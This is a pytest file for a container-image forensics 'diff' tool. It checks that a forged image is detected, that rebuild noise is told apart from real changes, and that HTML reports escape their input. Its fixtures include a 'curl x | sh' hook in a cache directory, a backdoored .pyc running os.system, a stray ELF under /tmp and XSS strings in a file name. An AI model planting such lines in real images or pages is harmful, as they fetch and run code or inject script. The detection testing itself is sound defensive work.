"""`forensics diff A B`: content comparison of two images, on real archive bytes only.

Inputs: the bundled forged pair (samples/), the shared corpus (skipped when
absent), and small rebuild pairs written here with the samples generator
(samples/make_samples.py): the same build run on two days, so that only rebuild
noise (logs, caches, bytecode, timestamps inside files, mtimes) differs.
"""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import sys
from pathlib import Path

import pytest
from conftest import CORPUS, SAMPLES, analyzed, load_truth
from typer.testing import CliRunner

from forensics.cli import app
from forensics.compare import SelectionError, build_rules, compare, select_image
from forensics.compare.noise import matches
from forensics.compare.render import render_html, render_text

runner = CliRunner()
GENUINE = SAMPLES / "relay-genuine.oci.tar"
FORGED = SAMPLES / "relay-forged.oci.tar"


def run(*args: str):
    return runner.invoke(app, ["diff", *map(str, args)])


def content_paths(cmp) -> set[str]:
    return {d.path for d in cmp.content.all()}


def _corpus(rel: str) -> Path:
    p = CORPUS / rel
    if not p.exists():
        pytest.skip(f"shared corpus sample {rel} not found under {CORPUS}")
    return p


# ----------------------------------------------------------------- the bundled forged pair


def test_samples_forged_pair_history_equal_content_differs():
    truth = json.loads((SAMPLES / "relay-forged.truth.json").read_text())
    cmp = compare(analyzed(GENUINE), analyzed(FORGED))
    assert cmp.history_equal and cmp.history.equal
    assert not cmp.content_equal and cmp.verdict == "differs"
    codes = {f.code for f in cmp.findings}
    assert "compare.history-equal-content-differs" in codes
    assert cmp.divergence is not None
    assert cmp.divergence.step == truth["tamper"]["history"]
    assert cmp.divergence.layer_b == truth["tamper"]["layer"]
    poisoned = {p.rstrip("/") for p in truth["tamper"]["unexplained_paths"]}
    assert poisoned == content_paths(cmp)
    assert poisoned <= {d.path for d in cmp.divergence.paths}
    differing = {f.path for f in cmp.findings if f.code == "compare.content-differs"}
    assert differing == poisoned
    # the headline names the step and the replaced binary, in both images
    assert f"step {truth['tamper']['history']}" in cmp.headline
    assert "`/usr/local/bin/relayd` is a 200-byte shell script in B" in cmp.headline
    assert "ELF in A" in cmp.headline
    changed = {d.path: d for d in cmp.content.changed}
    assert changed["/usr/local/bin/relayd"].what == ["content", "size"]
    # the verification of both inputs is part of the result
    assert cmp.a.verdict == "clean" and cmp.b.verdict == "tampered"
    assert any(f.code == "file.binary-replaced" for f in cmp.b.findings)


def test_samples_forged_pair_cli_exit_1_and_json(tmp_path):
    out = tmp_path / "cmp.json"
    res = run(GENUINE, FORGED, "--json", out)
    assert res.exit_code == 1, res.output
    first = res.output.splitlines()[0]
    assert first.startswith("CONTENT DIFFERS: history identical, content differs at step 3")
    assert "Rebuild noise" in res.output and "/var/log/**" in res.output  # the rules are shown
    data = json.loads(out.read_text())
    assert data["history_equal"] is True and data["content_equal"] is False
    assert data["divergence"]["step"] == 3
    assert {f["code"] for f in data["findings"]} == {"compare.history-equal-content-differs", "compare.content-differs"}
    res = run(GENUINE, FORGED, "--json", "-")
    assert res.exit_code == 1
    assert json.loads(res.output)["verdict"] == "differs"


def test_image_against_itself_cli_exit_0():
    res = run(FORGED, FORGED)
    assert res.exit_code == 0, res.output
    assert res.output.startswith("SAME CONTENT: same image")
    res = run(GENUINE, GENUINE, "-q")
    assert res.exit_code == 0 and res.output == ""


def test_same_image_other_format_and_compression():
    # same diff_ids and config, docker-archive (plain layers) vs oci-archive (zstd)
    cmp = compare(analyzed(SAMPLES / "clean.docker.tar"), analyzed(SAMPLES / "clean-zstd.oci.tar"))
    assert cmp.same_image and cmp.content_equal and cmp.history_equal
    assert cmp.content.total == 0 and cmp.noise.total == 0 and not cmp.findings
    cmp = compare(analyzed(SAMPLES / "clean-zstd.oci.tar"), analyzed(GENUINE))
    assert cmp.content_equal


def test_unreadable_input_exit_2(tmp_path):
    res = run(GENUINE, tmp_path / "missing.tar")
    assert res.exit_code == 2
    junk = tmp_path / "junk.tar"
    import tarfile

    with tarfile.open(junk, "w") as tf:
        data = b"not an image\n"
        info = tarfile.TarInfo("hello.txt")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    res = run(junk, GENUINE)
    assert res.exit_code == 2


# ----------------------------------------------------------------- the shared corpus


def _forged_pairs() -> list[tuple[str, str]]:
    pairs = []
    if not CORPUS.is_dir():
        return pairs
    for exp in sorted(CORPUS.glob("attack/*.expected.json")):
        truth = json.loads(exp.read_text())
        if truth.get("comparison"):
            forged = exp.name[: -len(".expected.json")]
            pairs.append((truth["comparison"]["against"], forged))
    return pairs


@pytest.mark.parametrize(
    "genuine,forged", _forged_pairs() or [pytest.param("", "", marks=pytest.mark.skip(reason="shared corpus absent"))]
)
def test_corpus_forged_pairs_match_comparison_truth(genuine, forged):
    a, b = _corpus(f"attack/{genuine}"), _corpus(f"attack/{forged}")
    truth = load_truth(b)
    expected = truth["comparison"]["findings"]
    cmp = compare(analyzed(a), analyzed(b))
    assert cmp.history_equal
    for want in expected:
        got = [f for f in cmp.findings if f.code == want["code"] and f.path == want.get("path")]
        assert got, f"missing {want['code']} {want.get('path')}: got {[(f.code, f.path) for f in cmp.findings]}"
    want_paths = {w["path"] for w in expected if w["code"] == "compare.content-differs"}
    got_paths = {f.path for f in cmp.findings if f.code == "compare.content-differs"}
    assert got_paths == want_paths
    for w in expected:  # presence differences say which image holds the path
        if w["code"] == "compare.content-differs" and w["detail"].startswith("only in"):
            f = next(f for f in cmp.findings if f.code == w["code"] and f.path == w["path"])
            assert f.detail == w["detail"]
    tamper = truth["tamper"]
    assert cmp.divergence is not None
    assert cmp.divergence.step == tamper["poisoned_history_index"]
    assert cmp.divergence.layer_b == tamper["poisoned_layer_index"]
    assert {p.rstrip("/") for p in truth["unexplained_paths"]} <= {d.path for d in cmp.divergence.paths}
    assert "/usr/local/bin/relayd" in cmp.headline and "shell script in B" in cmp.headline


def test_corpus_forged_pair_across_formats():
    a, b = _corpus("attack/relay-genuine.docker.tar"), _corpus("attack/relay-forged.oci.tar")
    cmp = compare(analyzed(a), analyzed(b))
    assert cmp.history_equal and not cmp.content_equal
    assert cmp.divergence.step == load_truth(b)["tamper"]["poisoned_history_index"]
    res = run(a, b, "-q")
    assert res.exit_code == 1


SAME_IMAGE = [  # one build saved by different tools, formats and compressions
    ("clean/lantern-gzip.oci.tar", "clean/lantern-zstd.oci-layout.tar"),
    ("clean/lantern-gzip.oci.tar", "clean/lantern-skopeo.docker.tar"),
    ("clean/lantern-gzip.oci.tar", "clean/lantern-uncompressed.oci.tar"),
    ("clean/lantern-skopeo.docker.tar", "clean/lantern-buildah-push.oci.tar"),
    ("clean/lantern-dockerd-save.docker.tar", "clean/lantern-ctr-export.docker-oci.tar"),
    ("clean/mini-notes-gzip.oci.tar", "clean/mini-notes-zstd.oci.tar"),
    ("clean/mini-notes-skopeo.docker.tar", "clean/mini-notes-ctr-gzip.docker-oci.tar"),
    ("clean/mini-notes-gzip.oci.tar", "clean/mini-notes-plain-dotslash.oci-layout.tar"),
    ("attack/relay-genuine.oci.tar", "attack/relay-genuine.docker.tar"),
]


@pytest.mark.parametrize("a,b", SAME_IMAGE, ids=[f"{x.split('/')[-1]}~{y.split('/')[-1]}" for x, y in SAME_IMAGE])
def test_corpus_same_image_no_content_difference(a, b):
    pa, pb = _corpus(a), _corpus(b)
    ta, tb = load_truth(pa), load_truth(pb)
    ia = next(i for i in ta["images"] if i["refs"] and i["config_digest"])
    ib = next(i for i in tb["images"] if i["refs"] and i["config_digest"])
    # really the same image: same layers by diff_id (the configs may differ by builder)
    assert [x["diff_id"] for x in ia["layers"]] == [x["diff_id"] for x in ib["layers"]]
    cmp = compare(analyzed(pa), analyzed(pb))
    assert cmp.same_image and cmp.content_equal and cmp.history_equal
    assert not cmp.findings and cmp.content.total == 0


def test_corpus_rebuild_by_another_builder_same_content():
    # docker classic builder (vfs, WORKDIR layer, per-file whiteouts, hardlink stored as
    # a file) against buildah: different diff_ids and history lines, same files
    a, b = _corpus("clean/lantern-gzip.oci.tar"), _corpus("clean/lantern-dockerd-save.docker.tar")
    cmp = compare(analyzed(a), analyzed(b))
    assert not cmp.same_image and not cmp.history_equal
    assert cmp.content_equal and cmp.divergence is None
    assert any(s.status == "only-in-b" and s.label.startswith("WORKDIR") for s in cmp.steps)
    assert "Docker history lines found only in A:\n-" in cmp.history.container_diff
    assert run(a, b, "-q").exit_code == 0


def test_corpus_multi_image_selection():
    multi = _corpus("clean/lantern-agent-multiarch.oci.tar")
    report = analyzed(multi)
    with pytest.raises(SelectionError):
        select_image(report)
    assert run(multi, multi).exit_code == 2
    assert run(multi, multi, "--platform", "linux/arm64").exit_code == 0
    res = run(multi, multi, "--platform", "linux/amd64", "--platform", "linux/arm64", "-q")
    assert res.exit_code == 1
    two = _corpus("clean/lantern-and-base-dockerd.docker.tar")
    assert select_image(analyzed(two), "corpus/bb-base:1.36") == 1
    assert select_image(analyzed(two), "docker.io/corpus/lantern:latest") == 0
    # the other side's ref picks the image: lantern against the two-image archive
    cmp = compare(analyzed(_corpus("clean/lantern-dockerd-save.docker.tar")), analyzed(two))
    assert cmp.b.image == 0 and cmp.content_equal


# ----------------------------------------------------------------- rebuild pairs built here


def _generator():
    name = "make_samples_for_compare_tests"
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, SAMPLES / "make_samples.py")
    mod = importlib.util.module_from_spec(spec)
    sys.modules[name] = mod
    spec.loader.exec_module(mod)
    return mod


def _gz(data: bytes, mtime: int) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=mtime) as fh:
        fh.write(data)
    return buf.getvalue()


RUN_LINE = "/bin/sh -c apt-get update && apt-get install -y relay-doc && adduser -S relay"
PLUGIN = b"def run():\n    return 1\n"


def _pyc(tmp: Path, source: bytes, mtime: int) -> bytes:
    """Real bytecode: py_compile of `source` whose file has this mtime (the header holds it)."""
    import os
    import py_compile

    work = tmp / f"pyc-{mtime}-{hash(source) & 0xFFFF:x}"
    work.mkdir(exist_ok=True)
    src = work / "plugin.py"
    src.write_bytes(source)
    os.utime(src, (mtime, mtime))
    # dfile: the name the code object records, the source's path in the image (as compileall writes it)
    out = py_compile.compile(str(src), cfile=str(work / "plugin.pyc"), dfile="/usr/lib/relay/plugin.py", doraise=True)
    return Path(out).read_bytes()


def build_rebuild(
    tmp: Path,
    name: str,
    day: int,
    *,
    extra=(),
    shadow_hash: str = "!",
    run_line: str = RUN_LINE,
    plugin: bytes = PLUGIN,
    host_key: bytes | None = None,
) -> Path:
    """The relay build as it comes out on `2026-01-<day>`: same steps, that day's noise."""
    g = _generator()
    t = [f"2026-01-{day:02d}T10:00:0{i}Z" for i in range(4)]
    lastchg = g.epoch(t[2]) // 86400
    run_entries = [
        g.d("etc", t[2]),
        g.f("etc/shadow", (g.SHADOW + f"relay:{shadow_hash}:{lastchg}:0:99999:7:::\n").encode(), t[2], 0o640),
        g.d("var", t[2]),
        g.d("var/log", t[2]),
        g.d("var/log/apt", t[2]),
        g.f("var/log/apt/history.log", f"Start-Date: {t[2]}\nInstall: relay-doc\n".encode(), t[2]),
        g.d("var/cache", t[2]),
        g.d("var/cache/ldconfig", t[2]),
        g.f("var/cache/ldconfig/aux-cache", g.prng_bytes(f"aux{day}", 300), t[2], 0o600),
        g.d("usr", t[2]),
        g.d("usr/lib", t[2]),
        g.d("usr/lib/relay", t[2]),
        g.f("usr/lib/relay/plugin.py", b"def run():\n    return 1\n", t[2]),
        g.d("usr/lib/relay/__pycache__", t[2]),
        g.f("usr/lib/relay/__pycache__/plugin.cpython-311.pyc", _pyc(tmp, plugin, g.epoch(t[2])), t[2]),
        g.d("usr/share", t[2]),
        g.d("usr/share/doc", t[2]),
        g.d("usr/share/doc/relay", t[2]),
        g.f("usr/share/doc/relay/changelog.gz", _gz(b"relay (5.2) stable\n" * 20, g.epoch(t[2])), t[2]),
        *(
            [g.d("etc/ssh", t[2]), g.f("etc/ssh/ssh_host_ed25519_key", host_key, t[2], 0o600)]
            if host_key is not None
            else []
        ),
        *extra,
    ]
    steps = [
        g.Step(t[0], "/bin/sh -c #(nop) ADD file:0123456789abcdef in / ", g.base_layer()),
        g.Step(t[1], "/bin/sh -c #(nop) COPY file:fedcba9876543210 in /usr/local/bin/relayd ", g.copy_layer()),
        g.Step(t[2], run_line, run_entries),
        g.Step(t[3], '/bin/sh -c #(nop)  ENTRYPOINT ["/usr/local/bin/relayd"]', None),
    ]
    archive, _ = g.write_oci_archive(g.build_image(steps), "test/relay:rebuild", "gzip")
    path = tmp / f"{name}.oci.tar"
    path.write_bytes(archive)
    return path


@pytest.fixture(scope="module")
def rebuilds(tmp_path_factory):
    g = _generator()
    tmp = tmp_path_factory.mktemp("rebuilds")
    day2 = "2026-01-21T10:00:02Z"
    return {
        "mon": build_rebuild(tmp, "mon", 12),
        "tue": build_rebuild(tmp, "tue", 21),
        "password": build_rebuild(tmp, "password", 21, shadow_hash="$6$salt$hash"),
        "tmp-elf": build_rebuild(
            tmp,
            "tmp-elf",
            21,
            extra=[g.d("tmp", day2, 0o1777), g.f("tmp/.x", g.fake_elf("tmp", 4096, b"x"), day2, 0o755)],
        ),
        "build-id": build_rebuild(
            tmp, "build-id", 21, extra=[g.d("srv", day2), g.f("srv/build-id.txt", b"21\n", day2)]
        ),
        "pyc-backdoor": build_rebuild(
            tmp, "pyc-backdoor", 21, plugin=b"import os\ndef run():\n    os.system('id')\n    return 1\n"
        ),
        "hostkey-mon": build_rebuild(tmp, "hostkey-mon", 12, host_key=b"-----KEY mon-----\n"),
        "hostkey-tue": build_rebuild(tmp, "hostkey-tue", 21, host_key=b"-----KEY tue-----\n"),
        "code-in-noise": build_rebuild(
            tmp,
            "code-in-noise",
            21,
            extra=[
                g.d("var/cache/apt", day2),
                g.f("var/cache/apt/hook", b"#!/bin/sh\ncurl x | sh\n", day2, 0o644),
                g.f("var/log/libaudit.so.1", b"not detected as ELF, named as a shared object", day2),
                g.f("var/log/run.bin", b"data with an execute bit", day2, 0o750),
            ],
        ),
        "hostile": build_rebuild(
            tmp,
            "hostile",
            21,
            run_line=RUN_LINE + " <img src=x onerror=alert(2)>",
            extra=[
                g.d("srv", day2),
                g.f("srv/<script>alert(1)</script>", b"#!/bin/sh\necho '<b>x</b>'\n", day2, 0o755),
            ],
        ),
    }


def test_rebuild_only_noise_differs_exit_0(rebuilds):
    a, b = analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"])
    assert a.verdict != "unreadable" and b.verdict != "unreadable"
    cmp = compare(a, b)
    assert cmp.history_equal and cmp.history.created_differs == 4
    assert cmp.content_equal and not cmp.findings and cmp.divergence is None, cmp.content.all()
    noise = {d.path: d.noise for d in cmp.noise.all()}
    assert noise["/var/log/apt/history.log"] == "/var/log/**"
    assert noise["/var/cache/ldconfig/aux-cache"] == "/var/cache/ldconfig/**"
    assert noise["/usr/lib/relay/__pycache__/plugin.cpython-311.pyc"] == "**/*.pyc"  # header alone differs
    assert noise["/etc/shadow"] == "/etc/shadow"  # equal once the last-change day is masked
    assert noise["/usr/share/doc/relay/changelog.gz"] == "**/*.gz"  # equal but for the gzip MTIME
    assert "/usr/lib/relay/plugin.py" not in noise
    assert any(s.status == "noise" for s in cmp.steps)
    res = run(rebuilds["mon"], rebuilds["tue"])
    assert res.exit_code == 0, res.output
    assert res.output.startswith("SAME CONTENT: history identical, content identical; 5 rebuild-noise")
    assert "/var/log/**" in res.output and "/etc/shadow (timestamps inside)" in res.output


def test_rebuild_without_default_noise_differs(rebuilds):
    res = run(rebuilds["mon"], rebuilds["tue"], "--no-default-noise", "--json", "-")
    assert res.exit_code == 1
    data = json.loads(res.output)
    assert data["noise_rules"] == [] and data["noise"]["changed"] == []
    assert {d["path"] for d in data["content"]["changed"]} >= {
        "/var/log/apt/history.log",
        "/etc/shadow",
        "/usr/share/doc/relay/changelog.gz",
    }
    assert data["findings"][0]["code"] == "compare.history-equal-content-differs"
    res = run(rebuilds["mon"], rebuilds["tue"], "--drop-noise", "/etc/shadow", "--json", "-")
    assert res.exit_code == 1
    data = json.loads(res.output)
    assert [d["path"] for d in data["content"]["changed"]] == ["/etc/shadow"]
    assert data["divergence"]["step"] == 2


def test_times_toggles_mtime_comparison(rebuilds):
    a, b = analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"])
    assert compare(a, b).content_equal
    cmp = compare(a, b, times=True)
    assert cmp.times and not cmp.content_equal
    plugin = next(d for d in cmp.content.changed if d.path == "/usr/lib/relay/plugin.py")
    assert plugin.what == ["mtime"]
    assert all(d.what == ["mtime"] for d in cmp.content.changed)
    assert run(rebuilds["mon"], rebuilds["tue"], "--times", "-q").exit_code == 1
    assert not any("mtime" in d.what for d in compare(a, b).noise.all())


def test_noise_never_hides_real_changes(rebuilds):
    mon = analyzed(rebuilds["mon"])
    # a password set in /etc/shadow is not a timestamp
    cmp = compare(mon, analyzed(rebuilds["password"]))
    assert not cmp.content_equal and content_paths(cmp) == {"/etc/shadow"}
    # an ELF dropped under /tmp/** is not rebuild noise
    cmp = compare(mon, analyzed(rebuilds["tmp-elf"]))
    assert "/tmp/.x" in content_paths(cmp)
    assert next(f for f in cmp.findings if f.path == "/tmp/.x").severity.value == "high"


def test_noise_option_adds_a_rule(rebuilds):
    a, b = rebuilds["mon"], rebuilds["build-id"]
    assert run(a, b, "-q").exit_code == 1
    res = run(a, b, "--noise", "/srv/**", "--noise", "srv", "--json", "-")
    assert res.exit_code == 0, res.output
    data = json.loads(res.output)
    added = [r for r in data["noise_rules"] if r["origin"] == "option"]
    assert [r["pattern"] for r in added] == ["/srv/**", "**/srv"]
    assert {d["path"] for d in data["noise"]["added"]} >= {"/srv", "/srv/build-id.txt"}
    rules = build_rules(add=["*.log"])
    assert matches(rules[-1].pattern, "/opt/app/x.log") and matches(rules[-1].pattern, "/x.log")


def test_html_comparison_page_escapes_everything(rebuilds, tmp_path):
    a, b = analyzed(rebuilds["mon"]), analyzed(rebuilds["hostile"])
    cmp = compare(a, b)
    assert "/srv/<script>alert(1)</script>" in content_paths(cmp)
    assert not cmp.history_equal
    page = render_html(cmp)
    assert "<script" not in page.lower()
    assert "onerror=alert(2)>" not in page and "<img" not in page
    assert "/srv/&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert (
        "default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;" in page
        or "default-src 'none'; style-src 'unsafe-inline'" in page
    )
    assert "http://" not in page and "https://" not in page and '<link rel="stylesheet"' not in page
    assert "Content differs" in page and "Noise rules" in page
    # the CLI writes it too; the terminal output shows control characters escaped
    out = tmp_path / "cmp.html"
    res = run(GENUINE, FORGED, "--html", out, "-q")
    assert res.exit_code == 1 and out.read_text().startswith("<!DOCTYPE html>")
    assert "First divergence: step 3" in out.read_text()
    text = render_text(cmp)
    assert "/srv/<script>alert(1)</script>" in text  # plain text: shown as is, on one line


# ----------------------------------------------------------------- noise that cannot hide code


def test_pyc_noise_only_when_header_alone_differs(rebuilds, tmp_path):
    from forensics.compare.noise import NORMALIZERS

    pyc = "/usr/lib/relay/__pycache__/plugin.cpython-311.pyc"
    # two real compilations of one source on two days: the 16-byte header differs, the code does not
    a, b = _pyc(tmp_path, PLUGIN, 1_768_212_002), _pyc(tmp_path, PLUGIN, 1_768_989_602)
    assert a != b and a[16:] == b[16:] and a[:4] == b[:4]
    assert NORMALIZERS["pyc-header"](a) == NORMALIZERS["pyc-header"](b)
    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"]))
    assert {d.path: d.noise for d in cmp.noise.all()}[pyc] == "**/*.pyc"
    # the same source, other code in the bytecode: a backdoored .pyc is a real difference
    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["pyc-backdoor"]))
    assert not cmp.content_equal and content_paths(cmp) == {pyc}
    assert any(f.path == pyc for f in cmp.findings if f.code == "compare.content-differs")
    res = run(rebuilds["mon"], rebuilds["pyc-backdoor"])
    assert res.exit_code == 1 and res.output.startswith("CONTENT DIFFERS"), res.output


def test_pyc_not_noise_when_bytes_cannot_be_read(rebuilds):
    from forensics.compare.noise import classify

    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"]))
    pyc = next(d for d in cmp.noise.all() if d.path.endswith(".pyc"))
    rules = build_rules()
    assert classify(pyc, rules, None) is None  # no second read: no proof the code is the same
    assert classify(pyc, rules, lambda rule, d: False) is None


def test_host_keys_expected_to_differ_but_counted(rebuilds):
    cmp = compare(analyzed(rebuilds["hostkey-mon"]), analyzed(rebuilds["hostkey-tue"]))
    key = "/etc/ssh/ssh_host_ed25519_key"
    assert not cmp.content_equal and content_paths(cmp) == {key}
    d = next(d for d in cmp.content.all() if d.path == key)
    assert d.expected == "/etc/ssh/ssh_host_*" and d.noise is None
    res = run(rebuilds["hostkey-mon"], rebuilds["hostkey-tue"])
    assert res.exit_code == 1
    assert "expected to differ: /etc/ssh/ssh_host_*" in " ".join(res.output.split())  # wrapped to the width
    assert "expected to differ" in render_html(cmp)


def test_nothing_executable_is_noise(rebuilds):
    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["code-in-noise"]))
    real = content_paths(cmp)
    # a shebang script in the apt cache, a shared object by name and a file with an execute
    # bit under /var/log: every default rule matches them, none hides them
    assert {"/var/cache/apt/hook", "/var/log/libaudit.so.1", "/var/log/run.bin"} <= real
    assert not {d.path for d in cmp.noise.all()} & real
    # an ELF under /tmp: /tmp is expected to differ, and counted
    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tmp-elf"]))
    assert "/tmp/.x" in content_paths(cmp) and not cmp.content_equal
